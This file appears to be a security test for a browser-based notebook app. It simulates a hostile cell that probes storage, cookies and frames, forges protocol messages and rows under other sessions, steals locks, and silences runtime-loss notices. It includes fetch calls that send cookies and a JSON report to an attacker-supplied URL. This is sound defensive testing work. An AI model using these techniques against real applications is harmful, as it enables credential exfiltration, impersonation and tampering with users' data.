"""What a hostile cell tries from inside the runtime. It is run there, not here.

Every attempt is a function; `attempt` notes what came of it. The report goes to the attacker's
server, because the last attempts may cost the runtime its own link.
"""

import asyncio
import gc
import json
import traceback
from dataclasses import replace

import js
from foldbook import events
from foldbook.browser import runtime_worker
from foldbook.browser.ports import PortChannel
from foldbook.events.cells import CellCreated, CellSourceEdited
from foldbook.events.executions import ExecutionCompleted, ExecutionRequested
from foldbook.events.notebooks import NotebookRenamed
from foldbook.events.outputs import DisplayDataAdded, StreamAppended
from foldbook.events.people import ActorIntroduced
from foldbook.events.runtimes import RuntimeLost
from foldbook.peer import Peer
from foldbook.row import Kind, Role, Row
from foldbook.wire import Call, Hello, Push, Welcome, decode, encode
from pyodide.ffi import to_js

NEAR = "the page's own: "


def plain(**values):
    """A JavaScript object."""
    return to_js(values, dict_converter=js.Object.fromEntries)


async def attempt(work):
    """What came of it: its value as text, or the error's name."""
    try:
        value = work()
        if hasattr(value, "__await__"):
            value = await asyncio.wait_for(value, 20)
    except BaseException as error:
        return f"refused: {type(error).__name__} {str(error)[:80]}"
    return f"{NEAR}{value}"


def reach(path, *arguments):
    """A function that follows names from JavaScript's globals, and calls what it finds."""

    def work():
        value = js
        for name in path.split("."):
            value = getattr(value, name)
        return value(*arguments) if callable(value) else value

    return work


# Reading what the browser keeps for the page


async def opened(name):
    """Open a database by name, as `site/db.js` does."""
    done = asyncio.get_running_loop().create_future()
    request = js.indexedDB.open(name)
    request.onsuccess = lambda _event: done.set_result(list(request.result.objectStoreNames))
    request.onerror = lambda _event: done.set_exception(RuntimeError(str(request.error)))
    return await done


async def reads(other, notebook):
    """All ways to what the page's origin keeps."""
    return {
        "database": await attempt(lambda: opened("foldbook")),
        "own notebook": await attempt(lambda: opened(f"foldbook-{notebook}")),
        "other notebook": await attempt(lambda: opened(f"foldbook-{other}")),
        "databases": await attempt(reach("indexedDB.databases")),
        "caches": await attempt(reach("caches.keys")),
        "local storage": await attempt(reach("localStorage.getItem", "secret")),
        "session storage": await attempt(reach("sessionStorage.getItem", "secret")),
        "cookies": await attempt(reach("document.cookie")),
        "cookie store": await attempt(reach("cookieStore.getAll")),
        "files": await attempt(reach("navigator.storage.getDirectory")),
        "parent": await attempt(reach("parent.document.title")),
        "top": await attempt(reach("top.document.title")),
        "window": await attempt(reach("window.document.title")),
        "opener": await attempt(reach("opener.document.title")),
        "base": await attempt(reach("document.baseURI")),
        "service worker": await attempt(reach("navigator.serviceWorker.register", "sw.js")),
        "script": await attempt(reach("importScripts", "main.js")),
    }


def addresses():
    """Everything that may carry the page's address with what stands behind its #."""
    found = [str(js.location.href), str(js.self.name), str(js.self.origin)]
    found += [str(value) for value in gc.get_objects() if isinstance(value, Hello)]
    found += [getattr(getattr(js, name, None), "baseURI", "") for name in ("document", "self")]
    return found


async def shout(notebook):
    """Speak on the pages' channel as another page would, and take the notebook's lock away: the
    channel, the list of what is heard on it from now on, and what came of the lock."""
    channel = js.BroadcastChannel.new(f"foldbook:{notebook}")
    heard = []
    channel.onmessage = lambda event: heard.append(event.data)
    command = {"do": "rename_notebook", "name": "hacked"}
    forged = {"t": "cmd", "view": "x", "k": 1, "base": 0, "command": command}
    for message in ({"t": "attach", "view": "x", "n": 1}, forged, {"t": "close"}):
        channel.postMessage(plain(**message))
    name, steal = f"foldbook:{notebook}", plain(steal=True)
    lock = await attempt(lambda: js.navigator.locks.request(name, steal, lambda _lock: None))
    return channel, heard, lock


async def carries_cookies(attacker):
    """A request with everything the browser would send along."""
    await js.fetch(f"{attacker}/cookies", plain(credentials="include", mode="no-cors"))


def forge_messages(text):
    """What the runtime's frame and page hear from the worker, made by hand."""
    for message in (
        {"t": "status", "message": text, "done": text, "total": text},
        {"t": "frame", "isolated": text},
        {"t": "runtime", "state": "ready", "session": text},
        {"t": "host", "do": "start", "session": text},
        {"t": text},
    ):
        js.postMessage(plain(**message))


# Writing what only others may write


def stay():
    """Have nobody told that the runtime has ended: a second connection takes the first one's
    place, and the page ends a worker that says so."""
    runtime_worker._Page.post = lambda _page, **_message: None


class Line:
    """One more connection to the notebook, which the page gives to whoever asks in the frame."""

    def __init__(self):
        ports = js.MessageChannel.new()
        js.postMessage(plain(t="connect"), to_js([ports.port2]))
        self.channel = PortChannel(ports.port1)
        self.heard = []

    def say(self, message):
        """Send a message, or bytes."""
        self.channel.send(message if isinstance(message, bytes) else encode(message))

    async def hear(self, *names, patience=20):
        """Listen until a message of one of these types comes; the message, or "silence"."""
        try:
            while True:
                frame = await asyncio.wait_for(self.channel.receive(), patience)
                if frame is None:
                    return "closed"
                message = decode(frame)
                self.heard.append(message)
                if type(message).__name__ in names:
                    return message
        except TimeoutError:
            return "silence"


async def joined(hello):
    """A line on which this hello was said, and the answer."""
    line = Line()
    line.say(hello)
    return line, await line.hear("Welcome", "Err", "Bye")


def code_of(answer):
    """An answer in a word or two."""
    if isinstance(answer, str):
        return answer
    return f"{type(answer).__name__} {getattr(answer, 'code', '')}".strip()


class Forger:
    """Pushes rows of any content under the runtime's own session."""

    def __init__(self, hello):
        self.hello = hello
        self.line = None

    async def push(self, kind, event, **given):
        """Push one row; what came of it, in a word or two."""
        payload = event if isinstance(event, bytes) else events.encode(event)
        if self.line is None:
            self.line, welcome = await joined(self.hello)
            self.n, self.session, self.actor = welcome.n, welcome.session, welcome.actor
            self.head, self.turn = welcome.head, 0
        role = Role.RUNTIME
        row = Row(0, self.session, self.n + 1, self.head, self.actor, role, kind, 0, payload)
        self.turn += 1
        self.line.say(Push(self.turn, (replace(row, **given),), resume=True))
        answer = await self.line.hear("Ack", "Nack", "Err", "NotTaken")
        if code_of(answer).split()[0] in ("Ack", "Nack"):
            self.n += 1
        else:
            self.line = None
        return code_of(answer)


async def writes():
    """All ways to a row that is not a runtime's own."""
    peer = next(each for each in gc.get_objects() if isinstance(each, Peer))
    hello = next(each for each in gc.get_objects() if isinstance(each, Hello))
    state = peer.notebook
    person = next(actor for actor in state.actors.values() if actor.kind == "person")
    session = next(c.created.session for c in state.cells.values())
    cell = next(iter(state.cells))
    foreign = state.name  # nobody tells a runtime of executions that are over; here the title does
    running = next(each for each in state.executions.values() if each.status == "running")
    forger = Forger(hello)
    edit = CellSourceEdited(cell_id=cell, changes=[[0, "hacked"]], length_before=0)
    run = ExecutionRequested(execution_id="hacked", cell_id=cell, source="1", run_id="hacked")
    rename = NotebookRenamed(name="hacked")
    create = CellCreated(cell_id="hacked", cell_type="code", position="a0", source="hacked")
    speak = StreamAppended(execution_id=foreign, name="stdout", text="hacked")
    end = ExecutionCompleted(execution_id=foreign, status="error")
    show = DisplayDataAdded(execution_id=foreign, data={"text/plain": "hacked"})
    own = StreamAppended(execution_id=running.id, name="stdout", text="as myself")
    pretend = ActorIntroduced(name=person.name, actor_kind="person")
    gone = RuntimeLost(runtime=peer.session, reason="hacked")
    found = {
        "kind edit": await forger.push(Kind.EDIT, edit),
        "kind edit, new cell": await forger.push(Kind.EDIT, create),
        "kind run": await forger.push(Kind.RUN, run),
        "kind run, runtime lost": await forger.push(Kind.RUN, gone),
        "kind admin": await forger.push(Kind.ADMIN, rename),
        "edit as output": await forger.push(Kind.OUTPUT, edit),
        "edit as note": await forger.push(Kind.NOTE, edit),
        "run as output": await forger.push(Kind.OUTPUT, run),
        "rename as note": await forger.push(Kind.NOTE, rename),
        "unknown event": await forger.push(Kind.OUTPUT, b'{"type":"hacked"}'),
        "no event": await forger.push(Kind.OUTPUT, b"\xff\x00"),
        "too large": await forger.push(Kind.OUTPUT, b" " * 70_000),
        "seen what is not there": await forger.push(Kind.OUTPUT, own, seen=10**9),
        "output elsewhere": await forger.push(Kind.OUTPUT, speak),
        "end elsewhere": await forger.push(Kind.OUTPUT, end),
        "display elsewhere": await forger.push(Kind.OUTPUT, show),
        "as a person": await forger.push(Kind.NOTE, pretend),
        "forged actor": await forger.push(
            Kind.OUTPUT, own, actor=person.id, role=Role.OWN, seq=1, ts=1
        ),
        "n again": await forger.push(Kind.OUTPUT, speak, n=1),
        "n too far": await forger.push(Kind.OUTPUT, own, n=10**6),
        "rows of a person": await forger.push(Kind.OUTPUT, own, session=session),
        "edit of a person": await forger.push(Kind.EDIT, edit, session=session),
    }
    found |= await greetings(hello, session)
    return found


async def greetings(hello, session):
    """Hellos that claim to be somebody else, and frames that are none."""

    def other(**given):
        values = {name: getattr(hello, name) for name in Hello.__slots__}
        return Hello(**(values | given))

    found = {}
    for name, forged in (
        ("hello of another session", other(session_secret=b"x" * 32)),
        ("hello to another room", other(room="another")),
        ("hello from the future", other(since=10**6)),
        ("no hello", Push(1, ())),
        ("garbage", b"\xc1garbage"),
        ("nothing", b""),
    ):
        found[name] = code_of((await joined(forged))[1])
    line, _ = await joined(hello)
    line.say(Call("c", session, "complete", {"source": "", "position": 0}))
    answer = await line.hear("Reply", "Err")
    found["call to a person"] = f"{type(answer).__name__} {getattr(answer, 'ok', None)}"
    line.say(Welcome(10**6, "", "", "", Role.OWN, 10**6))
    found["an authority's word"] = code_of(await line.hear("Err", "Bye"))
    return found


async def main(told):
    """Try everything and tell the attacker."""
    notebook = next(each for each in gc.get_objects() if isinstance(each, Peer)).notebook.id
    report = {"reads": await reads(told["other"], notebook), "addresses": addresses()}
    channel, heard, lock = await shout(notebook)
    await carries_cookies(told["attacker"])
    forge_messages(told["markup"])
    stay()
    try:
        report["writes"] = await writes()
    except BaseException:
        report["problem"] = traceback.format_exc()
    # By now the notebook has answered all that came by the line: it would have answered this too.
    report["shout"] = {"heard": len(heard), "lock": lock, "on": channel.name}
    body = json.dumps(report, default=str)
    await js.fetch(f"{told['attacker']}/report", plain(method="POST", mode="no-cors", body=body))
